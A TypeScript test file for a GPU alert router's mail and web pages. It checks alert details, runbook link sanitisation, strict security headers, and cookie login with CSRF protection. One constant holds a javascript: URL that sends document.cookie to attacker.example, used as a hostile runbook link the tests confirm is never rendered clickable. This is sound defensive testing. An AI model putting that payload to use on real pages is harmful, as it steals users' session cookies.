/**
 * What a page shows, in the mail (real SMTP) and on the router's pages: the job and user an alert
 * hits, runbook links only for http(s) URLs, the security headers, and CSRF on cookie writes.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { SmtpSink } from '../../stack/mail-catcher.js';
import { ManualClock } from '../clock.js';
import type { RunningRouter } from '../service.js';
import { request, startTestRouter, testOptions } from '../testing/harness.js';
import { gpuAlert, webhook } from '../testing/webhooks.js';

const TUESDAY_10 = Date.parse('2025-03-11T09:00:00Z');
const EVIL = "javascript:fetch('https://attacker.example/?t='+document.cookie)";
const BEN_TOKEN = 'ben-board-token';

let smtp: SmtpSink;
let running: RunningRouter;

beforeAll(async () => {
  smtp = await SmtpSink.start();
  running = await startTestRouter(await testOptions({ web: { users: [{ name: 'ben', token: BEN_TOKEN }] } }, smtp.port), new ManualClock(TUESDAY_10));
  const hit = gpuAlert('node-5', { startsAt: TUESDAY_10 });
  hit.labels = { ...hit.labels, job: 'alice~train-llm', user: 'alice', vc: 'research' };
  hit.annotations = { ...hit.annotations, runbook_url: EVIL };
  const idle = gpuAlert('node-6', { startsAt: TUESDAY_10 });
  await request(`${running.url}/api/v1/alertmanager`, { body: webhook([hit]) });
  await request(`${running.url}/api/v1/alertmanager`, { body: webhook([idle]) });
  await running.router.deliverOutbox();
  await smtp.waitFor(2);
});

afterAll(async () => {
  await running?.close();
  await smtp?.stop();
});

const mailAbout = (text: string) => smtp.mails.find((m) => m.subject.includes(text));

describe('the page mail and the pages', () => {
  it('say which job, user and VC the alert hits, when the alert carries them', async () => {
    const page = mailAbout('alice~train-llm') ?? mailAbout('node-5');
    expect(page?.text).toContain('Hits:     job alice~train-llm, user alice, VC research');
    expect(page?.html).toContain('job <code>alice~train-llm</code> · user <strong>alice</strong> · VC research');
    const other = mailAbout('node-6');
    expect(other?.text).not.toContain('Hits:');
    expect(other?.html).not.toContain('data-hit');

    const incidentPage = await request(`${running.url}/incidents/1`);
    expect(incidentPage.text).toContain('Hits job <code>alice~train-llm</code> · user <strong>alice</strong> · VC research');
    const board = await request(`${running.url}/`);
    expect(board.text).toContain('job <code>alice~train-llm</code> · user <strong>alice</strong> · VC research');
    expect(board.text.match(/data-hit=/g)).toHaveLength(1);
  });

  it('never turn a javascript: runbook into a link; an https one still is', async () => {
    const page = mailAbout('alice~train-llm') ?? mailAbout('node-5');
    expect(page?.html).not.toMatch(/href="javascript/i);
    expect(page?.html).toContain('Runbook: <code>javascript:fetch(&#x27;https://attacker.example/?t&#x3D;&#x27;+document.cookie)</code> (not an http(s) link)');
    expect(mailAbout('node-6')?.html).toContain('<a href="https://runbooks.example/gpu-xid">Runbook</a>');
    const incidentPage = await request(`${running.url}/incidents/1`);
    expect(incidentPage.text).not.toMatch(/href="javascript/i);
    expect(incidentPage.text).toContain('(not an http(s) link)');
    expect((await request(`${running.url}/incidents/2`)).text).toContain('<a href="https://runbooks.example/gpu-xid">runbook</a>');
  });

  it('send a strict Content-Security-Policy and the other security headers on every answer', async () => {
    for (const path of ['/', '/incidents/1', '/login', '/ack/garbage', '/api/v1/incidents', '/static/board.js']) {
      const res = await fetch(`${running.url}${path}`);
      const csp = res.headers.get('content-security-policy') ?? '';
      expect(csp, path).toContain("script-src 'self'");
      expect(csp, path).toContain("default-src 'none'");
      expect(csp, path).toContain("frame-ancestors 'none'");
      expect(csp, path).not.toContain('unsafe-inline');
      expect(res.headers.get('x-frame-options'), path).toBe('DENY');
      expect(res.headers.get('x-content-type-options'), path).toBe('nosniff');
      expect(res.headers.get('referrer-policy'), path).toBe('same-origin');
    }
    const board = await request(`${running.url}/`);
    expect(board.text).not.toMatch(/<script>|<script(?![^>]*\bsrc=)|\son[a-z]+="/i);
    expect((await fetch(`${running.url}/static/board.js`)).headers.get('content-type')).toMatch(/javascript/);
  });

  it('logs in with a cookie (HttpOnly, SameSite=Strict) and needs the CSRF token on every cookie write', async () => {
    const login = await fetch(`${running.url}/login`, {
      method: 'POST',
      redirect: 'manual',
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      body: `token=${BEN_TOKEN}`,
    });
    expect(login.status).toBe(303);
    const setCookie = login.headers.get('set-cookie') ?? '';
    expect(setCookie).toMatch(/^gpuwatch_session=[^;]+; Max-Age=43200; Path=\/; HttpOnly; SameSite=Strict$/);
    const cookie = setCookie.split(';')[0] as string;
    const wrong = await fetch(`${running.url}/login`, {
      method: 'POST',
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      body: 'token=guess',
    });
    expect(wrong.status).toBe(401);

    const ack = (headers: Record<string, string>) =>
      fetch(`${running.url}/api/v1/incidents/2/ack`, { method: 'POST', headers: { 'content-type': 'application/json', cookie, ...headers }, body: '{}' });
    const noCsrf = await ack({});
    expect(noCsrf.status).toBe(403);
    expect((await noCsrf.json()).error).toMatch(/CSRF token/);
    expect((await ack({ 'x-csrf-token': 'forged' })).status).toBe(403);
    const board = await (await fetch(`${running.url}/`, { headers: { cookie } })).text();
    const csrf = /<meta name="csrf-token" content="([^"]+)">/.exec(board)?.[1] as string;
    expect(board).toContain('Logged in as <strong data-testid="session-user">ben</strong>');
    const done = await ack({ 'x-csrf-token': csrf });
    expect(done.status).toBe(200);
    expect((await done.json()).incident).toMatchObject({ status: 'acknowledged', acknowledgedBy: 'ben' });
    // A login form posted from another site is refused.
    expect(
      (
        await fetch(`${running.url}/login`, {
          method: 'POST',
          headers: { 'content-type': 'application/x-www-form-urlencoded', origin: 'https://attacker.example' },
          body: `token=${BEN_TOKEN}`,
        })
      ).status,
    ).toBe(403);
  });
});
